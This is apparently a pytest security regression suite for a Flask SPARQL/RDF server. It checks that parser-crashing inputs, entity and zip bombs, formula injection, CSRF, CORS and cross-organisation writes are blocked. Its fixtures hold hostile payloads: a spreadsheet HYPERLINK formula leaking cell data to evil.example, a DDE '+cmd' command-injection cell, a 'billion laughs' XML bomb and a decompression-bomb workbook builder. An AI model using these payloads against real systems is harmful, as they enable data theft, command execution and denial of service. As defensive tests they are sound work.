"""The holes an attacker found (issue 11), each closed and kept closed; and the access model's own promises
(hashed secrets, one-time sign-in, CSRF, CORS without credentials, the audit trail).

SSRF through SERVICE / LOAD variants is tested in test_access_outbound.py, and who sees which route's
organisation data in test_access_routes.py.
"""

from __future__ import annotations

import io
import json
import logging
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from normgraph.access import Registry
from normgraph.orgdata.limits import MAX_ROWS
from normgraph.server import create_app
from normgraph.server.kernel import close_app
from normgraph.store import EmbeddedStore, StoreError
from tests.server_helpers import TOKEN, fixture_store

ORG = "acme"
GRAPH = f"https://w3id.org/normgraph/graph/org/{ORG}"
RISKS = (b"id,title,kind,likelihood,impact,inherent_score,residual_score,owner,standard,treated_by,treatment,affects\n"
         b'R-001,"=HYPERLINK(""http://evil.example/""&A3,""click"")",availability,4,5,,8,itsec,,,,\n'
         b"R-002,+cmd|' /C calc'!A0,integrity,2,2,,,itsec,,,,\n")


@pytest.fixture
def app() -> Iterator[Flask]:
    registry = Registry()
    registry.add("editor")
    registry.grant("editor", ORG, "editor")
    registry.add("root", admin=True)
    a = create_app(fixture_store(), config={"update_token": TOKEN, "workers": 1, "max_upload": 4 * 1024 * 1024},
                   registry=registry)
    a.extensions["test_tokens"] = {"editor": registry.new_token("editor"), "root": registry.new_token("root")}
    yield a
    close_app(a)


def as_(app: Flask, who: str | None) -> FlaskClient:
    client = app.test_client()
    if who is not None:
        client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {app.extensions['test_tokens'][who]}"
    return client


def signin_form(client: FlaskClient, **fields: str) -> dict[str, str]:
    """The sign-in form's fields with the CSRF token the sign-in page puts in it (fetching the page)."""
    client.get("/access/signin")
    with client.session_transaction() as sess:
        return {**fields, "csrf_token": sess["csrf"]}


# -- crashes and memory ------------------------------------------------------------------------------
def test_deeply_nested_update_is_refused_and_the_server_lives(app: Flask) -> None:
    """3,000 nested groups crash Oxigraph's parser (SIGSEGV); updates were parsed in the server process."""
    deep = "INSERT { <http://x/a> <http://x/b> <http://x/c> } WHERE " + "{" * 3000 + "?s ?p ?o" + "}" * 3000
    client = as_(app, "root")
    r = client.post("/sparql", data=deep, content_type="application/sparql-update")
    assert r.status_code == 400 and b"cannot be parsed" in r.data
    assert client.get("/sparql", query_string={"query": "ASK {}"}).status_code == 200


def test_the_old_way_crashed() -> None:
    """What the test above guards against: parsing that update in-process kills the process."""
    code = ("import pyoxigraph as ox; ox.Store().update('INSERT { <http://x/a> <http://x/b> <http://x/c> } WHERE '"
            " + '{' * 3000 + '?s ?p ?o' + '}' * 3000)")
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60).returncode < 0


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">
<rdf:Description rdf:about="http://example.org/a"><ex:p>&lol3;</ex:p></rdf:Description></rdf:RDF>"""


def test_rdfxml_with_entity_declarations_is_refused(app: Flask) -> None:
    r = as_(app, "root").put(f"/store?graph={GRAPH}", data=BOMB, content_type="application/rdf+xml")
    assert r.status_code == 400 and b"DOCTYPE" in r.data
    store = EmbeddedStore()
    with pytest.raises(ValueError, match="DOCTYPE"):
        store.load(BOMB, "rdfxml", "http://x/g")


def _xlsx_with_rows(n: int) -> bytes:
    """A small workbook whose sheet holds `n` rows (written directly: openpyxl would take minutes)."""
    wb = Workbook()
    wb.active.append(RISKS.decode().splitlines()[0].split(","))
    buf = io.BytesIO()
    wb.save(buf)
    if n < 100_000:
        rows = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>R</t></is></c></row>' for i in range(2, n + 2))
    else:  # the same row again and again compresses to almost nothing (2 million rows in a few hundred KB)
        rows = '<row><c t="inlineStr"><is><t>R</t></is></c></row>' * n
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
                data = data.replace(b'<dimension ref="A1:L1"/>', f'<dimension ref="A1:L{n + 1}"/>'.encode())
            dst.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize(("rows", "refused_at", "why"), [(30_000, MAX_ROWS + 1, f"more than {MAX_ROWS} rows"),
                                                         (2_000_000, None, "the workbook expands to")])
def test_xlsx_row_and_size_caps_give_400_before_reading_the_rest(app: Flask, rows: int, refused_at: int | None,
                                                                   why: str) -> None:
    """Refused at the first row past the cap, or from the archive's sizes before any row is read: the
    refusal never waits for the rest of the sheet."""
    body = _xlsx_with_rows(rows)
    assert len(body) < 4 * 1024 * 1024
    r = as_(app, "editor").post(f"/org/{ORG}/import?format=xlsx", data=body)
    assert r.status_code == 400, r.data[:300]
    doc = r.get_json()
    assert doc["file"] and doc["reason"] and ("rows" in doc["reason"] or "expands" in doc["reason"])
    assert doc["row"] == refused_at and doc["reason"].startswith(why), doc


def test_a_giant_csv_cell_gives_400_with_row_and_column(app: Flask) -> None:
    for size in (40_000, 140_000):  # over a spreadsheet cell, and over the csv module's own field limit
        body = RISKS.splitlines()[0] + b"\nR-9," + b"x" * size + b",bias,3,3,,,o,,,,\n"
        r = as_(app, "editor").post(f"/org/{ORG}/import?format=csv", data=body)
        assert r.status_code == 400, (size, r.data[:200])
        doc = r.get_json()
        assert doc["row"] == 2 and doc["reason"], doc


def test_deep_jsonld_gives_400(app: Flask) -> None:
    deep = ("[" * 900 + "]" * 900).encode()
    doc = b'{"@id": "https://w3id.org/normgraph/id/org/acme/x", "http://x/p": ' + deep + b"}"
    r = as_(app, "editor").post(f"/org/{ORG}/import?format=jsonld", data=doc)
    assert r.status_code == 400 and "deeper" in r.get_json()["reason"]
    r = as_(app, "root").put(f"/store?graph={GRAPH}", data=doc, content_type="application/ld+json")
    assert r.status_code == 400 and b"deeper" in r.data


def test_utf16_bodies_are_refused(app: Flask) -> None:
    client = app.test_client()
    text = "SELECT * WHERE { ?s ?p ?o } LIMIT 1"
    r = client.post("/sparql", data=text.encode("utf-16"), content_type="application/sparql-query; charset=utf-16")
    assert r.status_code == 415
    r = client.post("/sparql", data=text.encode("utf-16"), content_type="application/sparql-query")
    assert r.status_code == 400


def test_security_headers_on_every_answer(app: Flask) -> None:
    client = app.test_client()
    for path in ("/sparql?query=ASK%7B%7D", "/", "/api/queries", "/no-such-page", "/access/signin"):
        r = client.get(path)
        assert r.headers["X-Content-Type-Options"] == "nosniff", path
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"], path


class _FailingStore(EmbeddedStore):
    def query_serialized(self, *args: Any, **kwargs: Any) -> tuple[bytes, str, str]:
        raise StoreError("embedded on disk at /srv/secret/normgraph-store: IO error: /srv/secret/normgraph-store/LOCK")


def test_error_messages_name_no_server_path() -> None:
    app = create_app(_FailingStore(), config={"guard": False})
    try:
        r = app.test_client().get("/sparql", query_string={"query": "ASK {}"})
        assert r.status_code == 500 and b"/srv/secret" not in r.data and b"IO error" in r.data
    finally:
        close_app(app)


# -- exports ------------------------------------------------------------------------------------------
def test_spreadsheet_exports_neutralise_formulas_without_changing_the_graph(app: Flask) -> None:
    editor = as_(app, "editor")
    r = editor.post(f"/org/{ORG}/import?format=csv&kind=risks", data=RISKS)
    assert r.status_code == 200, r.data
    csv_text = editor.get(f"/org/{ORG}/risks?format=csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in csv_text and "'+cmd" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    wb = load_workbook(io.BytesIO(editor.get(f"/org/{ORG}/risks?format=xlsx").get_data()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if str(c.value or "").startswith("=HYP")]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    nt = editor.get(f"/store?graph={GRAPH}", headers={"Accept": "application/n-triples"}).get_data(as_text=True)
    assert '"=HYPERLINK(' in nt  # the data in the graph is unchanged


# -- the access model's promises --------------------------------------------------------------------
def test_secrets_are_stored_hashed(tmp_path: Path) -> None:
    db = tmp_path / "access.sqlite"
    registry = Registry(db)
    registry.add("ann")
    token = registry.new_token("ann")
    link = registry.signin_link("ann")
    registry.set_password("ann", "correct horse battery staple")
    registry.close()
    raw = db.read_bytes()
    for secret in (token, link, "correct horse battery staple"):
        assert secret.encode() not in raw
    assert db.stat().st_mode & 0o777 == 0o600
    with sqlite3.connect(db) as con:
        assert con.execute("SELECT COUNT(*) FROM secrets").fetchone()[0] == 3


def test_sign_in_link_works_once_and_sessions_need_csrf_for_writes(app: Flask) -> None:
    registry: Registry = app.extensions["normgraph"].registry
    link = registry.signin_link("root")
    client = app.test_client()
    r = client.post("/access/signin", data=signin_form(client, token=link))
    assert r.status_code == 303
    me = client.get("/access/me").get_json()
    assert me["principal"] == "root" and me["admin"]
    again = app.test_client()
    assert again.post("/access/signin", data=signin_form(again, token=link)).status_code == 403  # used up
    update = "INSERT DATA { GRAPH <http://x/g> { <http://x/a> <http://x/b> 1 } }"
    r = client.post("/sparql", data=update, content_type="application/sparql-update")
    assert r.status_code == 401  # a cross-site form could send the cookie: without the CSRF token it is ignored
    r = client.post("/sparql", data=update, content_type="application/sparql-update",
                    headers={"X-CSRF-Token": me["csrf_token"]})
    assert r.status_code == 204


def test_cors_is_for_anonymous_reads_and_never_with_credentials(app: Flask) -> None:
    client = app.test_client()
    r = client.get("/sparql", query_string={"query": "ASK {}"}, headers={"Origin": "https://elsewhere.example"})
    assert r.headers["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in r.headers
    registry: Registry = app.extensions["normgraph"].registry
    client.post("/access/signin", data=signin_form(client, token=registry.signin_link("editor")))
    r = client.get("/sparql", query_string={"query": "ASK {}"}, headers={"Origin": "https://elsewhere.example"})
    assert "Access-Control-Allow-Origin" not in r.headers and "Access-Control-Allow-Credentials" not in r.headers


def test_organisation_access_is_audited(app: Flask, caplog: pytest.LogCaptureFixture) -> None:
    editor = as_(app, "editor")
    assert editor.post(f"/org/{ORG}/import?format=csv&kind=risks", data=RISKS).status_code == 200
    with caplog.at_level(logging.INFO, logger="normgraph.audit"):
        editor.get(f"/org/{ORG}/risks")
        app.test_client().get("/explore/")
    records = [json.loads(r.getMessage()) for r in caplog.records if r.name == "normgraph.audit"]
    assert records and all(r["principal"] == "editor" for r in records)
    assert any(r["access"] == "read" and GRAPH in r["graphs"] and r["path"] == f"/org/{ORG}/risks" for r in records)
    assert all(TOKEN not in json.dumps(r) for r in records)


def test_editors_write_their_organisation_only(app: Flask) -> None:
    editor = as_(app, "editor")
    other = "https://w3id.org/normgraph/graph/org/other"
    turtle = b"<http://x/a> <http://x/b> <http://x/c> ."
    assert editor.put(f"/store?graph={GRAPH}", data=turtle, content_type="text/turtle").status_code == 201
    assert editor.put(f"/store?graph={other}", data=turtle, content_type="text/turtle").status_code == 403
    assert editor.post("/org/other/import?format=csv&kind=risks", data=RISKS).status_code == 403
    assert editor.delete(f"/store?graph={GRAPH}").status_code == 204


@pytest.mark.parametrize("method", ["post", "put"])
def test_an_upload_into_one_graph_cannot_write_another_by_naming_it(app: Flask, method: str) -> None:
    """JSON-LD is a dataset format: a document's own named graphs would keep their names when loaded
    "into" the request's graph, so an editor of one organisation could write another's graph or the
    public catalogs (attack review A9)."""
    editor, root = as_(app, "editor"), as_(app, "root")
    other = "https://w3id.org/normgraph/graph/org/other"
    assert root.put(f"/store?graph={other}", data=b"<http://x/o> <http://x/p> 'kept' .",
                    content_type="text/turtle").status_code == 201
    before = {g: root.get(f"/store?graph={g}", headers={"Accept": "application/n-triples"}).data
              for g in (other, GRAPH)}
    doc = json.dumps({"@graph": [
        {"@id": other, "@graph": [{"@id": "http://x/planted", "http://www.w3.org/2000/01/rdf-schema#label": "BY-EDITOR"}]},
        {"@id": "http://x/mine", "http://www.w3.org/2000/01/rdf-schema#label": "mine"}]})
    r = getattr(editor, method)(f"/store?graph={GRAPH}", data=doc, content_type="application/ld+json")
    assert r.status_code == 400 and other in r.get_data(as_text=True)
    after = {g: root.get(f"/store?graph={g}", headers={"Accept": "application/n-triples"}).data for g in (other, GRAPH)}
    assert after == before  # neither graph changed: refused before anything was written
    hits = root.get("/sparql", query_string={"query": 'ASK { GRAPH ?g { ?s ?p "BY-EDITOR" } }'},
                    headers={"Accept": "application/sparql-results+json"}).get_json()
    assert hits["boolean"] is False
    # the document's own graph named as the request's graph is fine: its triples go there
    own = json.dumps({"@id": GRAPH, "@graph": [{"@id": "http://x/mine", "http://www.w3.org/2000/01/rdf-schema#label": "mine"}]})
    assert getattr(editor, method)(f"/store?graph={GRAPH}", data=own, content_type="application/ld+json").status_code in (200, 201, 204)
    assert b"http://x/mine" in root.get(f"/store?graph={GRAPH}", headers={"Accept": "application/n-triples"}).data


def test_huge_query_texts_and_parallel_dumps_are_bounded(app: Flask) -> None:
    client = app.test_client()
    huge = "ASK {} #" + "x" * (1024 * 1024)
    assert client.post("/sparql", data=huge, content_type="application/sparql-query").status_code == 413
    from normgraph.server import gsp

    with gsp._dump_slot("addr:127.0.0.1"):  # a dump of this client's in progress
        r = client.get("/store")
        assert r.status_code == 503 and r.headers.get("Retry-After")
    assert client.get("/store").status_code == 200


def test_the_sign_in_page_says_who_you_are_and_signs_you_out(app: Flask) -> None:
    registry: Registry = app.extensions["normgraph"].registry
    client = app.test_client()
    client.post("/access/signin", data=signin_form(client, token=registry.signin_link("editor")))
    page = client.get("/access/signin").get_data(as_text=True)
    assert "signed in as <strong>editor</strong>" in page
    csrf = client.get("/access/me").get_json()["csrf_token"]
    assert client.post("/access/signout").status_code == 400  # without the CSRF token
    assert client.post("/access/signout", data={"csrf_token": csrf}).status_code == 303
    assert client.get("/access/me").get_json()["principal"] is None
    assert "Sign in" in app.test_client().get("/").get_data(as_text=True)


def test_a_single_sign_on_header_is_trusted_only_when_configured() -> None:
    registry = Registry()
    registry.add("ann")
    registry.grant("ann", ORG, "viewer")
    for header, expected in ((None, None), ("X-Forwarded-User", "ann")):
        app = create_app(fixture_store(), config={"guard": False, "trusted_user_header": header}, registry=registry)
        try:
            client = app.test_client()
            me = client.get("/access/me", headers={"X-Forwarded-User": "ann"}).get_json()
            assert me["principal"] == expected
            assert client.get("/access/me", headers={"X-Forwarded-User": "nobody"}).get_json()["principal"] is None
        finally:
            close_app(app)


def test_a_single_sign_on_user_needs_the_csrf_token_to_write() -> None:
    """The browser sends the proxy's sign-on with a cross-site form as it sends a cookie: a write from
    the sign-on header alone would let any web page write with the user's rights."""
    registry = Registry()
    registry.add("ann")
    registry.grant("ann", ORG, "editor")
    app = create_app(fixture_store(), config={"guard": False, "trusted_user_header": "X-Forwarded-User"},
                     registry=registry)
    try:
        client = app.test_client()
        sso = {"X-Forwarded-User": "ann"}
        graph = GRAPH
        body = "<http://x/a> <http://x/b> <http://x/c> ."
        forged = client.post(f"/store?graph={graph}", data=body, content_type="application/n-triples", headers=sso)
        assert forged.status_code in (401, 403, 404)
        assert b"http://x/a" not in client.get(f"/store?graph={graph}", headers=sso).data
        csrf = client.get("/access/me", headers=sso).get_json()["csrf_token"]
        ok = client.post(f"/store?graph={graph}", data=body, content_type="application/n-triples",
                         headers={**sso, "X-CSRF-Token": csrf})
        assert ok.status_code in (200, 201, 204)
    finally:
        close_app(app)


def test_password_guessing_is_slowed_down(app: Flask) -> None:
    registry: Registry = app.extensions["normgraph"].registry
    registry.set_password("editor", "a long enough password")
    client = app.test_client()
    client.get("/access/signin")
    with client.session_transaction() as sess:
        csrf = sess["csrf"]
    statuses = [client.post("/access/signin", data={"name": "editor", "password": f"guess {i}", "csrf_token": csrf},
                            headers={"X-Forwarded-For": f"10.0.0.{i}"}).status_code for i in range(7)]
    assert statuses[:5] == [403] * 5 and statuses[5:] == [429, 429]
    right = client.post("/access/signin", data={"name": "editor", "password": "a long enough password",
                                                "csrf_token": csrf})
    assert right.status_code == 429  # even the right password waits until the window has passed
